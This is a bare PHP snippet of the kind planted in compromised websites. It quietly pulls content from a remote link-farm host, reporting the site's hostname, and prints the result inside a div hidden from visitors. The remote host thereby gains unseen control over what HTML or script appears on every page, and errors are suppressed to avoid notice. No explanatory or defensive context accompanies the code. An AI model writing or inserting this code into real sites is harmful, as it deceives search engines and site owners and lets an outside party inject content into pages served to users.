<?php
$links = @file_get_contents('http://linkfarm.example/l.php?h=' . $_SERVER['HTTP_HOST']);
?>
<DIV style="display: none"><?php echo $links; ?></DIV>
